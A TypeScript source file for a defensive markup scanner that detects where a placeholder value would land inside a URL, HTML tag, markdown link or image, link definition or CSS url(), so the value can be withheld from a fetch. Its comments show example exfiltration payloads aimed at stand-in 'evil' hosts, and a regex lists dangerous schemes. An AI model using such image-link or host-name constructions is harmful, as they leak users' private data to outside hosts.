/**
 * Where a value must not be written back. A host could put a placeholder into a link that the reader's own program
 * fetches or opens (`![](https://evil/[PERSON_47])`) and so be sent the value. The scanner reads the text as the reader
 * will get it, and knows at each point whether a value written there would become part of a URL, an HTML tag, the
 * target of a markdown link or image, a link definition, or a CSS `url(…)`.
 *
 * It reads HTML tags as the WHATWG tokenizer does (13.2.5), and errs on the side of staying inside.
 */
export interface MarkupScanner {
  feed(text: string): void;
  /** Whether a value written here would become part of one of these. */
  isProtected(): boolean;
  /** Offset in all text fed at which the outermost construct around this point began; only where it is protected. */
  protectedFrom(): number;
}

type TagState = "none" | "open" | "name" | "between" | "attribute" | "before-value" | "double" | "single" | "unquoted";

const tokenLengthMax = 4096;
/** As far back as what makes a URL of a token can reach: a host name of 253 characters, its port and a slash. */
const urlFrontLengthMax = 300;

export function createMarkupScanner(): MarkupScanner {
  let offset = 0;
  let tag: TagState = "none";
  let tagFrom = 0;
  let tagName = "";
  let linkDepth = 0;
  let linkFrom = 0;
  let inAngle = false;
  let escaped = false;
  let newlines = 0;
  let brackets: number[] = [];
  let previous = "";
  let definition: "none" | "before-destination" | "destination" = "none";
  let definitionFrom = 0;
  let lineStart: "prefix" | "label" | "text" = "prefix";
  let lineFrom = 0;
  let cssFrom = -1;
  let token = "";
  let tokenIsUrl = false;
  let tokenFrom = 0;
  /** How much of the token was looked at. */
  let tokenSeen = 0;
  let opener = "";

  function feed(text: string): void {
    for (let index = 0; index < text.length; index += 1) read(text.charAt(index));
  }

  function read(char: string): void {
    readTag(char);
    readLink(char);
    readDefinition(char);
    readCss(char);
    readToken(char);
    escaped = char === "\\" && !escaped;
    previous = char;
    offset += 1;
  }

  function readTag(char: string): void {
    switch (tag) {
      case "none":
        if (char === "<") {
          tag = "open";
          tagFrom = offset;
        }
        return;
      case "open":
        tagName = char;
        if (/[a-z]/i.test(char)) tag = "name";
        else if (char === "/" || char === "!" || char === "?") tag = "name";
        else if (char !== "<") tag = "none";
        else tagFrom = offset;
        return;
      case "name":
        if (char === ">") tag = "none";
        else if (/[\s/]/.test(char) && tagName !== "") tag = "between";
        else if (/[a-z0-9:!?-]/i.test(char)) tagName += char;
        else tag = "none";
        return;
      case "between":
        if (char === ">") tag = "none";
        else if (!/[\s/]/.test(char)) tag = "attribute";
        return;
      case "attribute":
        if (char === ">") tag = "none";
        else if (char === "=") tag = "before-value";
        else if (char === "/") tag = "between";
        return;
      case "before-value":
        if (char === ">") tag = "none";
        else if (char === '"') tag = "double";
        else if (char === "'") tag = "single";
        else if (!/\s/.test(char)) tag = "unquoted";
        return;
      case "double":
        if (char === '"') tag = "between";
        return;
      case "single":
        if (char === "'") tag = "between";
        return;
      case "unquoted":
        if (char === ">") tag = "none";
        else if (/\s/.test(char)) tag = "between";
        return;
      default:
        tag satisfies never;
    }
  }

  function readLink(char: string): void {
    if (linkDepth > 0) {
      newlines = char === "\n" ? newlines + 1 : /\s/.test(char) ? newlines : 0;
      if (newlines >= 2) linkDepth = 0;
      else if (escaped) return;
      else if (inAngle) inAngle = char !== ">" && char !== "\n";
      else if (char === "<" && previous === "(") inAngle = true;
      else if (char === "(") linkDepth += 1;
      else if (char === ")") linkDepth -= 1;
      return;
    }
    if (escaped) return;
    if (char === "[") {
      brackets = [...brackets.slice(-15), previous === "!" ? offset - 1 : offset];
    } else if (char === "(" && previous === "]") {
      linkDepth = 1;
      newlines = 0;
      linkFrom = brackets.pop() ?? offset - 1;
    } else if (previous === "]") {
      brackets.pop();
    }
  }

  /** `[label]: destination`, the destination on the same line or the next; `[^1]:` is a footnote and `[Ann]: Hi` speech. */
  function readDefinition(char: string): void {
    const isSpace = /\s/.test(char);
    if (definition === "destination" && isSpace) definition = "none";
    else if (definition === "before-destination" && char === "\n") definition = newlines++ > 0 ? "none" : definition;
    else if (definition === "before-destination" && !isSpace) definition = "destination";
    else if (char === ":" && previous === "]" && lineStart === "label") {
      definition = "before-destination";
      definitionFrom = lineFrom;
      newlines = 0;
    }
    if (char === "\n") {
      lineFrom = offset + 1;
      lineStart = "prefix";
      brackets = [];
    } else if (lineStart === "prefix" && !/[\s>*+\-\d.)]/.test(char)) lineStart = char === "[" ? "label" : "text";
    else if (lineStart === "label" && char === "^" && previous === "[") lineStart = "text";
  }

  function readCss(char: string): void {
    if (char === "(" && token.slice(-3).toLowerCase() === "url") cssFrom = tokenFrom + token.length - 3;
    else if (char === ")" && !escaped) cssFrom = -1;
  }

  function readToken(char: string): void {
    const closes = char === "<" || (opener !== "" && char === opener && !escaped);
    if (/\s/.test(char) || closes) {
      startToken();
      opener = char === "<" ? ">" : "";
      return;
    }
    if (opensQuote(char)) {
      startToken();
      opener = char;
      return;
    }
    if (token.length < tokenLengthMax) token += char;
  }

  function startToken(): void {
    token = "";
    tokenIsUrl = false;
    tokenFrom = offset + 1;
    tokenSeen = 0;
  }

  /** A quote at the front of a word, or after the punctuation of JSON or code, starts a token of its own. */
  function opensQuote(char: string): boolean {
    if (opener !== "" || !/["'`]/.test(char)) return false;
    return token === "" || (/[:,{[(=]/.test(previous) && !isInUrl());
  }

  function isInTag(): boolean {
    return tag !== "none" && tag !== "open";
  }

  function isInUrl(): boolean {
    tokenIsUrl ||= token.length >= tokenLengthMax || isUrl(token.slice(Math.max(0, tokenSeen - urlFrontLengthMax)));
    tokenSeen = token.length;
    return tokenIsUrl;
  }

  /** The token is looked at last: it may be long, and this is asked at each character of what is around it. */
  function isProtected(): boolean {
    return isInTag() || linkDepth > 0 || definition === "destination" || cssFrom !== -1 || isInUrl();
  }

  function protectedFrom(): number {
    return Math.min(
      isInTag() ? tagFrom : offset,
      linkDepth > 0 ? linkFrom : offset,
      definition === "destination" ? definitionFrom : offset,
      cssFrom === -1 ? offset : cssFrom,
      isInUrl() ? tokenFrom : offset,
    );
  }

  return { feed, isProtected, protectedFrom };
}

const schemes =
  /(?:^|[^a-z0-9])(?:mailto|data|javascript|vbscript|sms|tel|xmpp|matrix|magnet|skype|whatsapp|intent|blob|view-source|file):/i;
const authority = /:(?:\/|\\){2}|^\\\\\S|(?:^|[^\w.])www\./i;
/** Looks back from the last dot of a host name, so that no letter is tried as the first of it. */
const hostWithPath =
  /(?=\.\p{L}[\p{L}\p{N}-]+(?::\d{1,5})?[/?#])(?<=(?:^|[^\w.@-])(?:[\p{L}\p{N}-]+\.)*[\p{L}\p{N}-]+)/u;
const addressWithPath = /(?:^|\D)(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?[/?#]/;

/** Whether text with no space in it has begun a URL: a scheme, `www.`, or a host name or address followed by a path. */
function isUrl(token: string): boolean {
  if (token.length < 4) return false;
  const plain = decoded(token);
  return authority.test(plain) || schemes.test(plain) || hostWithPath.test(plain) || addressWithPath.test(plain);
}

/** Character references and backslash escapes undone, as a markdown or JSON reader would. */
function decoded(token: string): string {
  if (!token.includes("&") && !token.includes("\\") && !token.includes("%")) return token;
  return token
    .replace(/&#x0*(2f|3a|2e|5c);?/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)))
    .replace(/&#0*(47|58|46|92);?/g, (_, code: string) => String.fromCharCode(Number(code)))
    .replace(
      /&(sol|colon|period|bsol);/g,
      (_, name: string) => ({ sol: "/", colon: ":", period: ".", bsol: "\\" })[name] ?? "",
    )
    .replace(/\\(?=[/:.])/g, "")
    .replace(/\\u00(2f|3a|2e)/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
}

export type Follow = "clear" | "url" | "undecided";

/** Longest run after a placeholder that is waited for before the placeholder is left as it is. */
const followLengthMax = 256;

/**
 * What stands right after a placeholder can make its value the front of a host name: `[PERSON_47].evil.example/`.
 * "undecided" until the run of host characters has ended, or `final`.
 */
export function followOf(rest: string, isUrlValue: boolean, final: boolean): Follow {
  const run = /^[A-Za-z0-9.-]*/.exec(rest.slice(0, followLengthMax + 1))?.[0] ?? "";
  const next = rest.charAt(run.length);
  if (run.length > followLengthMax) return "url";
  if (next === "" && !final) return "undecided";
  if (isUrlValue && (/^[.-]?[A-Za-z0-9]/.test(run) || next === "@")) return "url";
  if (/\.[A-Za-z0-9-]*[A-Za-z]{2}(?:\.|$)/.test(run) && /[/?#:@\\&%]/.test(next)) return "url";
  return /\.[A-Za-z0-9-]+\.[A-Za-z]{2,}$/.test(run) ? "url" : "clear";
}
